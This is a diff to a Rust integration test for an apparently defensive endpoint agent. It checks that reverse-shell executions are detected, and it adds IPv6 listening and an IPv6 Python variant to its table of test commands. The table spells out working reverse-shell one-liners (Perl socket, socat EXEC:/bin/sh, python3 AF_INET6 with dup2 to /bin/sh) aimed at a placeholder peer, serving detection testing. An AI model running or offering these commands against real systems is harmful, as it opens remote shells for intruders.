@@ -7,7 +7,7 @@
 #![allow(clippy::unwrap_used)] // a failed unwrap is a failed test
 
 use cordon_proto::{event, stdio::Kind};
-use cordon_tests::deploy::{AgentHandle, Deployment, PEER_V4, event_line};
+use cordon_tests::deploy::{AgentHandle, Deployment, PEER_V4, PEER_V6, event_line};
 use cordon_tests::netns::{Netns, in_netns};
 use cordon_tests::repo::{detection_config, rule_id};
 use cordon_tests::{poll, require_root};
@@ -27,7 +27,8 @@ struct Catcher {
 
 impl Catcher {
     fn start(peer: &str, port: u16) -> Self {
-        let listener = in_netns(peer, move || TcpListener::bind((PEER_V4, port))).unwrap();
+        // Both families: an IPv6 socket on :: takes IPv4 connections too.
+        let listener = in_netns(peer, move || TcpListener::bind(("::", port))).unwrap();
         listener.set_nonblocking(true).unwrap();
         let stop = Arc::new(AtomicBool::new(false));
         let conns = Arc::new(Mutex::new(Vec::new()));
@@ -72,13 +73,15 @@ fn matches(d: &Deployment, agent: &AgentHandle, rule: &str) -> u64 {
         .sum()
 }
 
-/// Stored exec summaries of `agent` whose standard streams part (" [stdin=socket ...]") names
+/// Stored exec summaries of `agent` whose standard streams part (") [stdin=socket ...]") names
 /// `peer`.
 fn shells_on(d: &Deployment, agent: &AgentHandle, peer: &str) -> Vec<String> {
-    summaries(d, agent, peer)
+    // The search is by port: the store's text search may treat "[" as a pattern.
+    let port = peer.rsplit(':').next().unwrap_or(peer);
+    summaries(d, agent, &format!(":{port}"))
         .into_iter()
         .filter(|s| {
-            s.rsplit_once(" [")
+            s.rsplit_once(") [")
                 .is_some_and(|(_, stdio)| stdio.contains(peer))
         })
         .filter(|s| {
@@ -127,9 +130,9 @@ fn have(tool: &str) -> bool {
         .is_ok_and(|o| o.status.success())
 }
 
-/// The variants: (name, the tool it needs, the shell command run on the host; PORT and HOST
-/// are replaced).
-const VARIANTS: [(&str, &str, &str); 7] = [
+/// The variants: (name, the tool it needs, the shell command run on the host; PORT, HOST and
+/// HOST6, the peer's IPv6 address, are replaced).
+const VARIANTS: [(&str, &str, &str); 8] = [
     (
         "dev_tcp",
         "bash",
@@ -161,6 +164,11 @@ const VARIANTS: [(&str, &str, &str); 7] = [
         "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(PORT,inet_aton(\"HOST\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
     ),
     ("socat", "socat", "socat TCP:HOST:PORT EXEC:/bin/sh"),
+    (
+        "python_ipv6",
+        "python3",
+        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET6);s.connect((\"HOST6\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
+    ),
 ];
 
 /// Both process sensor modes that see every exec, one after the other (an agent sees every
@@ -239,6 +247,7 @@ fn variants_in(mode: &str) {
         let catcher = Catcher::start(&peer, port);
         let before = matches(&d, &agent, &rule);
         let script = command
+            .replace("HOST6", PEER_V6)
             .replace("HOST", PEER_V4)
             .replace("PORT", &port.to_string());
         let child = host
@@ -250,7 +259,11 @@ fn variants_in(mode: &str) {
             .spawn()
             .unwrap();
         let child_pid = child.id();
-        let peer_addr = format!("{PEER_V4}:{port}");
+        let peer_addr = if command.contains("HOST6") {
+            format!("[{PEER_V6}]:{port}")
+        } else {
+            format!("{PEER_V4}:{port}")
+        };
         let seen = poll(Duration::from_secs(30), || {
             let shells = shells_on(&d, &agent, &peer_addr);
             (matches(&d, &agent, &rule) > before && !shells.is_empty()).then_some(shells)
